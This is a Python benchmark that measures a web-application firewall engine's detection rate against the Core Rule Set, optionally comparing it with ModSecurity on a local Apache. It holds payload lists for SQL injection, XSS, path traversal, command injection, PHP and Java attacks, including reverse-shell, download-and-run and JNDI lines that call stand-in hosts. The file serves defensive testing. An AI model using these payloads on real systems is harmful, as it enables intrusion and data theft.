"""Held-out detection check of the CRS engine: catch rate per attack family, benign block rate.

    .venv/bin/python bench/crs_detection.py                  # CRS from ../shared/crs-4.28.0
    .venv/bin/python bench/crs_detection.py --misses         # also list what passed / blocked
    .venv/bin/python bench/crs_detection.py --dump FILE      # every verdict, one JSON line each
        # (compare two dumps with `cmp`: an engine change must leave them byte for byte equal)
    .venv/bin/python bench/crs_detection.py --levels 1 --reference modsecurity
        # side by side with ModSecurity 2.9.7 on a throwaway Apache (Debian: apt-get install
        # apache2 libapache2-mod-security2): rates per family and carrier, every disagreement;
        # with --misses also the requests whose verdicts agree but rule ids or scores differ

The corpus below is written for this file and is not used by the tests (tests/crs has its own
requests). Each payload travels in several places a client can put it (query string, JSON body,
form body, and for some a header or cookie), so a gap in how the engine builds ARGS shows up as
a carrier with a lower rate. Nothing here tunes the rules: a miss is either an engine defect to
fix or a case CRS does not catch at that paranoia level by design.
"""

from __future__ import annotations

import argparse
import atexit
import contextlib
import http.client
import json
import os
import pwd
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from string import Template
from types import TracebackType
from typing import TextIO
from urllib.parse import quote, urlencode

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from gateway.validation.crs import CrsEngine, RequestView, Verdict

DEFAULT_RULES = Path(__file__).resolve().parents[2] / "shared" / "crs-4.28.0" / "rules"

HEADERS = (
    ("Host", "shop.example.org"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 Safari/17.2"),
    ("Accept", "*/*"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
)

SQLI = [
    "1' UNION SELECT NULL,NULL,NULL-- -",
    "1 union all select 1,2,concat(user,0x3a,password) from mysql.user#",
    "admin'-- ",
    "' or 'a'='a",
    "1' AND 1=1 AND 'x'='x",
    "1) or (1=1",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1; DROP TABLE customers--",
    "1'; exec master..xp_cmdshell 'dir'--",
    "1 OR pg_sleep(5)--",
    "-1' UnIoN/**/SeLeCt/**/1,2,3-- -",
    "1/**/or/**/1=1",
    "1' or benchmark(10000000,md5(1))#",
    "' OR 1=1 LIMIT 1 OFFSET 1 -- ",
    "1 AND extractvalue(1,concat(0x7e,(select version())))",
    "1' AND updatexml(1,concat(0x7e,database()),1)-- -",
    "' having 1=1--",
    "1 order by 10-- -",
    "' or ''='",
    "1' and substring(@@version,1,1)='5",
    "1 and ascii(substr((select table_name from information_schema.tables limit 1),1,1))>64",
    "';select load_file('/etc/passwd')-- -",
    "1 UNION SELECT @@version,NULL INTO OUTFILE '/tmp/x.txt'",
    "admin' or 1=1#",
    "x' AND 1=(SELECT COUNT(*) FROM tablenames); --",
    "1 or sleep(5)#",
    "' union select username, password from accounts where '1'='1",
    "1%27%20or%20%271%27%3D%271",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
]

XSS = [
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=prompt(document.domain)>",
    "<body onload=alert('x')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<svg/onload=confirm(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '"><script>alert(String.fromCharCode(88,83,83))</script>',
    "'><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    '<video><source onerror="alert(1)">',
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    "<form action=javascript:alert(1)><input type=submit>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    '<a onmouseover="alert(document.cookie)">x</a>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "javascript&colon;alert(1)",
]

LFI = [
    "../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "..\\..\\..\\boot.ini",
    "/etc/shadow",
    "/proc/self/environ",
    "../../../../var/log/apache2/access.log",
    "..%c0%af..%c0%afetc/passwd",
    "file:///etc/passwd",
    "/../../../../windows/system32/drivers/etc/hosts",
    "..%5c..%5cwindows%5cwin.ini",
    "../../../../etc/passwd%00.png",
    "/var/www/../../etc/group",
    "..;/..;/etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "../.ssh/id_rsa",
    "../../.env",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/etc/passwd",
]

RCE = [
    "; ls -la",
    "| id",
    "`id`",
    "$(whoami)",
    "&& cat /etc/passwd",
    "|| uname -a",
    "; wget http://evil.example/s.sh -O /tmp/s",
    "x;cat${IFS}/etc/passwd",
    ";cat$IFS/etc/passwd",
    "a;/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; curl evil.example|bash",
    "| nc -lvp 4444 -e /bin/bash",
    "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'exec \"/bin/sh\"'",
    "%0aid",
    "; ping -c 10 127.0.0.1",
    "; rm -rf /",
    "& powershell -enc SQBFAFgA",
    "| cmd.exe /c dir",
    "; c'a't /etc/passwd",
    "; /bin/c?t /etc/passwd",
    "`sleep 5`",
    "$(sleep 5)",
    "; chmod 777 /tmp/x",
    "; nslookup evil.example",
]

PHP = [
    "<?php echo shell_exec($_GET['c']); ?>",
    "<?= system('id') ?>",
    "php://input",
    "php://filter/read=convert.base64-encode/resource=config.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "expect://id",
    "phar://uploads/x.jpg/shell",
    "system('id');",
    "passthru('ls');",
    "eval($_POST['x']);",
    "assert($_REQUEST['a'])",
    "preg_replace('/.*/e','system(\"id\")','')",
    "file_put_contents('s.php', $x)",
    "call_user_func('system','id')",
    'O:8:"stdClass":1:{s:4:"test";s:4:"evil";}',
    'a:2:{i:0;s:4:"test";i:1;O:4:"Evil":0:{}}',
    "include($_GET['p'])",
    "zip://shell.jpg#payload.php",
    "proc_open('id', $d, $p)",
    "highlight_file('/etc/passwd')",
    "phpinfo();",
    "<?php @eval(base64_decode($_POST[z0]));?>",
]

JAVA = [
    "${jndi:ldap://evil.example:1389/a}",
    "${jndi:rmi://evil.example/x}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}",
    "${jndi:dns://evil.example}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
    "new java.lang.ProcessBuilder('id').start()",
    "Runtime.getRuntime().exec('id')",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "javax.script.ScriptEngineManager",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.System).getenv()}",
    "java.beans.XMLDecoder",
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}',
    "${jndi:ldaps://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
]

BENIGN = [
    "I don't think it's ready yet, but we'll see",
    "O'Reilly Media",
    "Rock 'n' roll never dies",
    'She said "hello" and left',
    "def add(a, b): return a + b",
    "for (let i = 0; i < n; i++) { sum += i; }",
    "Please select one item from the list and update your order",
    "jane.doe+newsletter@example.com",
    "https://example.com/path/to/page?x=1&y=2",
    "# Title\n\n* item one\n* item **bold**\n\n[link](https://example.com)",
    "42",
    "3.14159",
    "-17",
    "2024-05-01T12:34:56Z",
    "c9a1e8f2-4b7d-4c1e-9f0a-2d3b4c5e6f70",
    "+44 20 7946 0958",
    "221B Baker Street, London NW1 6XE",
    "red shoes size 42",
    "C# and C++ developers wanted",
    "50% off, today only!",
    "Tom & Jerry",
    "if a < b and c > d then swap",
    "I'm 5'10\" tall",
    "The price is $5 (five dollars)",
    "Can't wait to see y'all at the O'Neil's party!",
    "Where's the remote? It's under the sofa's cushion.",
    "Let's meet at 5 o'clock; bring snacks.",
    "The function returns null when the list is empty.",
    "SELECT a gift for your friend's birthday",
    "We updated the delete button and the create form",
    "user_id",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
    "Mozilla Firefox on Windows 10",
    "Order #12345 shipped via UPS",
    "text/html; charset=utf-8",
    "München, Zürich and Kraków",
    "日本語のテキスト",
    "Emoji test 😀👍",
    "He scored 10/10 on the test",
    "src/components/Button.tsx",
    "Version 2.4.1-beta+build.7",
    "New York, NY 10001",
    "The quick brown fox jumps over the lazy dog",
    "Pasta al pomodoro (serves 4): tomatoes, garlic, basil.",
    "Reminder: the meeting moved to Tuesday @ 3pm",
    "Ship to: 1 Infinite Loop, Cupertino, CA",
    "Please call me back at your earliest convenience",
    "I love this product!!! 5 stars",
    "a=1, b=2, c=3",
    "Does this work with Python 3.11 or newer?",
    "What is the difference between 'let' and 'const'?",
    "Run `npm install` then `npm test`",
    "return x * 2 if x > 0 else 0",
    "Cheers, Bob",
    "Q3 revenue grew 12% year over year",
    "The user's profile picture failed to upload",
    "true",
    "false",
    "null terminated strings are common in C",
    "Refund requested for order 98765 - item arrived damaged",
]

FAMILIES: dict[str, list[str]] = {
    "sqli": SQLI,
    "xss": XSS,
    "lfi": LFI,
    "rce": RCE,
    "php": PHP,
    "java": JAVA,
}


def _base(extra: tuple[tuple[str, str], ...] = ()) -> tuple[tuple[str, str], ...]:
    return HEADERS + extra


def as_query(name: str, payload: str) -> RequestView:
    return RequestView("GET", f"/shop/search?{name}={quote(payload, safe='')}", "HTTP/1.1", _base())


def as_json(name: str, payload: str) -> RequestView:
    body = json.dumps({"order": {"id": 7, "tags": ["a", payload]}, name: payload}).encode()
    headers = _base((("Content-Type", "application/json"), ("Content-Length", str(len(body)))))
    return RequestView("POST", "/api/orders", "HTTP/1.1", headers, body)


def as_form(name: str, payload: str) -> RequestView:
    body = urlencode({name: payload, "submit": "Send"}).encode()
    headers = _base(
        (
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Content-Length", str(len(body))),
        )
    )
    return RequestView("POST", "/account/update", "HTTP/1.1", headers, body)


def as_cookie(name: str, payload: str) -> RequestView:
    return RequestView(
        "GET", "/shop/cart", "HTTP/1.1", _base((("Cookie", f"{name}={quote(payload)}"),))
    )


def as_user_agent(name: str, payload: str) -> RequestView:
    headers = (*(h for h in HEADERS if h[0] != "User-Agent"), ("User-Agent", payload))
    return RequestView("GET", "/", "HTTP/1.1", headers)


Carrier = Callable[[str, str], RequestView]

CARRIERS: dict[str, Carrier] = {"query": as_query, "json": as_json, "form": as_form}
EXTRA_CARRIERS: dict[str, dict[str, Carrier]] = {
    "sqli": {"cookie": as_cookie},
    "java": {"user-agent": as_user_agent},
}


def cases() -> Iterator[tuple[str, str, str, RequestView]]:
    """(family, carrier, payload, request) for every attack and every benign value."""
    for family, payloads in FAMILIES.items():
        carriers = {**CARRIERS, **EXTRA_CARRIERS.get(family, {})}
        for payload in payloads:
            for carrier, build in carriers.items():
                yield family, carrier, payload, build("q", payload)
    for payload in BENIGN:
        for carrier, build in {**CARRIERS, "cookie": as_cookie}.items():
            yield "benign", carrier, payload, build("comment", payload)


# ---------------------------------------------------------------- reference: ModSecurity v2


TEMPLATE = Path(__file__).resolve().parent / "modsecurity" / "httpd.conf.in"
APACHE_MODULES = Path("/usr/lib/apache2/modules")
REPORTING_RULES = range(980000, 981000)
"""980170 logs the anomaly summary on every request; not a detection."""

_RULE_ID = re.compile(r'\[line "\d+"\] \[id "(\d+)"\]')
_UNIQUE_ID = re.compile(r'\[unique_id "([^"]+)"\]')
_DENIED = re.compile(r"ModSecurity: Access denied with code (\d+)")
_INBOUND = re.compile(r"Inbound Scores: blocking=(\d+)")
_VERSION = re.compile(r"ModSecurity for Apache/([\d.]+)")


@dataclass(frozen=True, slots=True)
class RefVerdict:
    blocked: bool
    status: int
    anomaly_score: int | None
    rule_ids: tuple[int, ...]
    """Rules that logged a match (reporting rules 980xxx left out), in log order."""


@dataclass(slots=True)
class _LogEntry:
    rule_ids: list[int]
    denied: int | None = None
    score: int | None = None


class ModSecurity:
    """ModSecurity v2 (mod_security2) with CRS on a throwaway Apache bound to 127.0.0.1.

    Its own ServerRoot, config, logs and port in a temp dir; one process (`apache2 -X`), stopped by
    `close()`, the context manager, atexit, or SIGTERM/SIGHUP turned into SystemExit by `main`.
    Requests go one per connection; after `close()`, `verdict()` pairs each response (by the
    X-Unique-ID header) with the error-log lines ModSecurity wrote for it (all phases, 980170 too).
    """

    def __init__(self, rules: Path, paranoia_level: int, threshold: int = 5, keep: bool = False):
        self.rules = rules.resolve()
        self.paranoia_level = paranoia_level
        self.threshold = threshold
        self.keep = keep
        self.version = "?"
        self.root: Path | None = None
        self.port = 0
        self._proc: subprocess.Popen[bytes] | None = None
        self._watchdog: subprocess.Popen[bytes] | None = None
        self._lifeline: int | None = None
        self._entries: dict[str, _LogEntry] = {}
        self._responses: dict[str, int] = {}

    # -------------------------------------------------------------- lifecycle

    def __enter__(self) -> ModSecurity:
        self.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.close()

    def start(self) -> None:
        apache = shutil.which("apache2") or shutil.which("apache2", path="/usr/sbin:/sbin")
        if apache is None or not (APACHE_MODULES / "mod_security2.so").exists():
            raise SystemExit(
                "--reference modsecurity needs Apache and mod_security2: "
                "apt-get install apache2 libapache2-mod-security2"
            )
        crs_setup = self.rules.parent / "crs-setup.conf.example"
        if not crs_setup.exists():
            raise SystemExit(f"{crs_setup} not found (expected next to {self.rules})")
        atexit.register(self.close)
        self.root = Path(tempfile.mkdtemp(prefix="crs-modsec-"))
        self.root.chmod(0o755)  # the child runs as www-data when we are root
        (self.root / "htdocs").mkdir(mode=0o755)
        (self.root / "htdocs" / "index.html").write_text("ok\n")
        (self.root / "tmp").mkdir()
        (self.root / "tmp").chmod(0o1777)
        self.port = _free_port()
        user, group = _apache_user()
        conf = self.root / "httpd.conf"
        conf.write_text(
            Template(TEMPLATE.read_text()).substitute(
                root=self.root,
                port=self.port,
                modules=APACHE_MODULES,
                user=user,
                group=group,
                crs_setup=crs_setup,
                rules=self.rules,
                paranoia=self.paranoia_level,
                threshold=self.threshold,
            )
        )
        check = subprocess.run(
            [apache, "-t", "-f", str(conf)], capture_output=True, text=True, timeout=120
        )
        if check.returncode != 0:
            raise RuntimeError(
                f"ModSecurity/Apache rejected the config ({conf}):\n{check.stderr}{check.stdout}"
            )
        out = (self.root / "apache.out").open("wb")
        self._proc = subprocess.Popen(
            [apache, "-X", "-f", str(conf)],
            stdin=subprocess.DEVNULL,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,  # our own process group: a Ctrl-C reaches us, we stop it
        )
        out.close()
        self._start_watchdog(self._proc.pid, self.root)
        deadline = time.monotonic() + 120
        while True:
            if self._proc.poll() is not None:
                raise RuntimeError(f"apache2 exited ({self._proc.returncode}):\n{self._log_tail()}")
            with (
                contextlib.suppress(OSError),
                socket.create_connection(("127.0.0.1", self.port), timeout=1),
            ):
                break
            if time.monotonic() > deadline:
                raise RuntimeError(f"apache2 did not listen on {self.port}:\n{self._log_tail()}")
            time.sleep(0.1)
        match = _VERSION.search(self._error_log())
        self.version = match.group(1) if match else "?"

    def _start_watchdog(self, pid: int, root: Path) -> None:
        """Stop Apache even if this process dies without cleaning up (SIGKILL, OOM killer).

        The watchdog holds the read end of a pipe whose write end only we hold: EOF without
        the all-clear byte that `close` writes means we are gone, so it stops Apache's group
        and removes the temp dir (unless kept).
        """
        read_end, self._lifeline = os.pipe()
        try:
            self._watchdog = subprocess.Popen(
                [sys.executable, "-c", _WATCHDOG, str(pid), "" if self.keep else str(root)],
                stdin=read_end,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
        finally:
            os.close(read_end)

    def close(self) -> None:
        """Stop Apache (SIGTERM, then SIGKILL), read its error log, drop the temp dir."""
        proc, self._proc = self._proc, None
        if proc is not None and proc.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(proc.pid, signal.SIGKILL)
                proc.wait(timeout=15)
        lifeline, self._lifeline = self._lifeline, None
        if lifeline is not None:
            with contextlib.suppress(OSError):
                os.write(lifeline, b"x")  # all clear: Apache is stopped
            os.close(lifeline)
        watchdog, self._watchdog = self._watchdog, None
        if watchdog is not None:
            try:
                watchdog.wait(timeout=10)
            except subprocess.TimeoutExpired:
                watchdog.kill()
                watchdog.wait()
        if self.root is not None:
            if proc is not None:
                self._entries = _parse_error_log(self._error_log())
            if self.keep:
                print(f"  (ModSecurity config and logs kept in {self.root})")
            else:
                shutil.rmtree(self.root, ignore_errors=True)
            self.root = None
        atexit.unregister(self.close)

    # -------------------------------------------------------------- requests

    def send(self, view: RequestView) -> str:
        """One request exactly as built for the gateway; returns the key for `verdict`."""
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        try:
            conn.putrequest(view.method, view.uri, skip_host=True, skip_accept_encoding=True)
            for name, value in view.headers:
                conn.putheader(name, value)
            conn.endheaders(view.body or None)
            response = conn.getresponse()
            response.read()
        finally:
            conn.close()
        key = response.getheader("X-Unique-ID") or f"#{len(self._responses)}"
        self._responses[key] = response.status
        return key

    def verdict(self, key: str) -> RefVerdict:
        status = self._responses[key]
        entry = self._entries.get(key, _LogEntry([], score=0))  # nothing logged: score 0
        ids = tuple(i for i in entry.rule_ids if i not in REPORTING_RULES)
        return RefVerdict(entry.denied is not None, status, entry.score, ids)

    # -------------------------------------------------------------- logs

    def _error_log(self) -> str:
        assert self.root is not None
        try:
            return (self.root / "error.log").read_text(errors="replace")
        except FileNotFoundError:
            return ""

    def _log_tail(self) -> str:
        assert self.root is not None
        out = self.root / "apache.out"
        text = self._error_log() + (out.read_text(errors="replace") if out.exists() else "")
        return "\n".join(text.splitlines()[-30:])


_WATCHDOG = """
import os, shutil, signal, sys, time
if sys.stdin.buffer.read(1) != b"x":
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.killpg(int(sys.argv[1]), sig)
        except ProcessLookupError:
            break
        time.sleep(2)
    if sys.argv[2]:
        shutil.rmtree(sys.argv[2], ignore_errors=True)
"""


def _parse_error_log(text: str) -> dict[str, _LogEntry]:
    entries: dict[str, _LogEntry] = {}
    for line in text.splitlines():
        if "ModSecurity:" not in line:
            continue
        uid = _UNIQUE_ID.findall(line)
        if not uid:
            continue
        entry = entries.setdefault(uid[-1], _LogEntry([]))
        rule = _RULE_ID.search(line)
        if rule:
            entry.rule_ids.append(int(rule.group(1)))
        denied = _DENIED.search(line)
        if denied:
            entry.denied = int(denied.group(1))
        score = _INBOUND.search(line)
        if score:
            entry.score = int(score.group(1))
    return entries


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def _apache_user() -> tuple[str, str]:
    """Debian's www-data when it exists (Apache refuses to serve as root), else nobody."""
    for user, group in (("www-data", "www-data"), ("nobody", "nogroup")):
        with contextlib.suppress(KeyError):
            pwd.getpwnam(user)
            return user, group
    return "nobody", "nogroup"


def _stop_on_signal(signum: int, _frame: object) -> None:
    raise SystemExit(128 + signum)


# ---------------------------------------------------------------- report


def _rate(hits: int, total: int) -> str:
    return f"{hits:3}/{total:<3} {hits / total:6.1%}" if total else "  -"


def run_level(
    engine: CrsEngine,
    all_cases: list[tuple[str, str, str, RequestView]],
    level: int,
    show_misses: bool,
    dump: TextIO | None = None,
) -> None:
    totals: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    by_carrier: dict[tuple[str, str], list[int]] = defaultdict(lambda: [0, 0])
    misses: list[str] = []
    for family, carrier, payload, view in all_cases:
        verdict = engine.evaluate(view)
        if dump is not None:
            dump.write(_dump_line(level, family, carrier, payload, verdict))
        hit = verdict.blocked
        totals[family][0] += hit
        totals[family][1] += 1
        by_carrier[(family, carrier)][0] += hit
        by_carrier[(family, carrier)][1] += 1
        if hit == (family == "benign"):
            misses.append(
                f"  {family:6} {carrier:10} score {verdict.anomaly_score:3} "
                f"{list(verdict.rule_ids)[:6]} {payload!r}"
            )
    print(f"\nparanoia level {level}")
    for family, (hits, total) in totals.items():
        word = "blocked" if family == "benign" else "caught"
        carriers = "  ".join(f"{c}:{h}/{t}" for (f, c), (h, t) in by_carrier.items() if f == family)
        print(f"  {family:7} {word} {hits:3}/{total:<3} = {hits / total:6.1%}   ({carriers})")
    if show_misses:
        print("  misses (attacks that passed, benign that was blocked):")
        print("\n".join(misses) or "  none")


def _dump_line(level: int, family: str, carrier: str, payload: str, verdict: Verdict) -> str:
    """What a verdict decides and why, without its timing: equal engines write equal lines."""
    record = {
        "level": level,
        "family": family,
        "carrier": carrier,
        "payload": payload,
        "blocked": verdict.blocked,
        "score": verdict.anomaly_score,
        "rule_ids": verdict.rule_ids,
        "fields": verdict.fields,
        "blocked_by": verdict.blocked_by,
        "failure": verdict.failure,
    }
    return json.dumps(record) + "\n"


def run_level_with_reference(
    engine: CrsEngine,
    all_cases: list[tuple[str, str, str, RequestView]],
    level: int,
    rules: Path,
    show_misses: bool,
    keep: bool,
) -> None:
    ours: list[Verdict] = []
    keys: list[str] = []
    started = time.perf_counter()
    with ModSecurity(rules, level, engine.threshold, keep=keep) as modsec:
        for _family, _carrier, _payload, view in all_cases:
            ours.append(engine.evaluate(view))
            keys.append(modsec.send(view))
    theirs = [modsec.verdict(key) for key in keys]
    elapsed = time.perf_counter() - started
    odd = sum(ref.blocked != (ref.status == 403) for ref in theirs)
    if odd:
        print(f"  warning: {odd} ModSecurity verdicts where the log and HTTP status disagree")

    # (family, carrier) -> [ours, theirs, total]; carrier "all" is the family's total
    counts: dict[tuple[str, str], list[int]] = defaultdict(lambda: [0, 0, 0])
    disagree: list[str] = []
    rule_diffs: list[str] = []
    shared_misses: list[str] = []
    for (family, carrier, payload, _view), mine, ref in zip(all_cases, ours, theirs, strict=True):
        for key in ((family, "all"), (family, carrier)):
            counts[key][0] += mine.blocked
            counts[key][1] += ref.blocked
            counts[key][2] += 1
        our_ids = sorted(set(mine.rule_ids))
        ref_ids = sorted(set(ref.rule_ids))
        line = (
            f"  {family:6} {carrier:10} {payload!r}\n"
            f"      gateway     {'BLOCK' if mine.blocked else 'pass '} score {mine.anomaly_score:3}"
            f"  {our_ids}\n"
            f"      modsecurity {'BLOCK' if ref.blocked else 'pass '} score "
            f"{'?' if ref.anomaly_score is None else ref.anomaly_score:>3}"
            f"  {ref_ids}  (HTTP {ref.status})\n"
            f"      only gateway {sorted(set(our_ids) - set(ref_ids))}"
            f"  only modsecurity {sorted(set(ref_ids) - set(our_ids))}"
        )
        if mine.blocked != ref.blocked:
            disagree.append(line)
        elif mine.blocked == (family == "benign"):
            shared_misses.append(
                f"  {family:6} {carrier:10} gateway {mine.anomaly_score:3} {our_ids}"
                f"  modsecurity {ref.anomaly_score} {ref_ids}  {payload!r}"
            )
        elif set(our_ids) != set(ref_ids) or mine.anomaly_score != ref.anomaly_score:
            rule_diffs.append(line)

    print(
        f"\nparanoia level {level}: gateway vs ModSecurity {modsec.version} (Apache, CRS "
        f"from {rules}), {len(all_cases)} requests in {elapsed:.1f}s"
    )
    print(f"  {'family':16} {'carrier':10} {'gateway':>14}   {'modsecurity':>14}")
    families = list(dict.fromkeys(family for family, *_ in all_cases))
    for family in families:
        word = "blocked" if family == "benign" else "caught"
        for (f, carrier), (mine_hits, ref_hits, total) in counts.items():
            if f != family:
                continue
            label = f"{family} {word}" if carrier == "all" else ""
            mark = "" if mine_hits == ref_hits else "   <- differs"
            print(
                f"  {label:16} {carrier:10} {_rate(mine_hits, total)}   "
                f"{_rate(ref_hits, total)}{mark}"
            )
    print(f"  verdicts disagree on {len(disagree)} of {len(all_cases)} requests:")
    print("\n".join(disagree) or "  none")
    print(
        f"  same verdict, different rule ids or score: {len(rule_diffs)} requests"
        + (" (listed with --misses)" if rule_diffs and not show_misses else "")
    )
    if show_misses and rule_diffs:
        print("\n".join(rule_diffs))
    if show_misses:
        print("  misses both engines share (attacks that passed, benign that was blocked):")
        print("\n".join(shared_misses) or "  none")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rules", type=Path, default=DEFAULT_RULES)
    parser.add_argument("--levels", type=int, nargs="+", default=[1, 2])
    parser.add_argument(
        "--threshold", type=int, default=5, help="inbound anomaly score threshold (CRS: 5)"
    )
    parser.add_argument("--misses", action="store_true", help="list missed attacks, blocked benign")
    parser.add_argument(
        "--dump", type=Path, help="write every verdict to this file, one JSON line per request"
    )
    parser.add_argument(
        "--reference",
        choices=["modsecurity"],
        help="also run every request through ModSecurity v2 + CRS on a throwaway local Apache",
    )
    parser.add_argument(
        "--keep-reference-logs",
        action="store_true",
        help="keep the reference's temp dir (config, error.log) and print where it is",
    )
    args = parser.parse_args()
    all_cases = list(cases())
    if args.reference:
        signal.signal(signal.SIGTERM, _stop_on_signal)
        signal.signal(signal.SIGHUP, _stop_on_signal)
    with contextlib.ExitStack() as stack:
        dump = stack.enter_context(args.dump.open("w")) if args.dump else None
        for level in args.levels:
            engine = CrsEngine.load(
                args.rules, paranoia_level=level, anomaly_threshold=args.threshold, time_budget=30.0
            )
            if args.reference:
                run_level_with_reference(
                    engine, all_cases, level, args.rules, args.misses, args.keep_reference_logs
                )
            else:
                run_level(engine, all_cases, level, args.misses, dump)


if __name__ == "__main__":
    main()
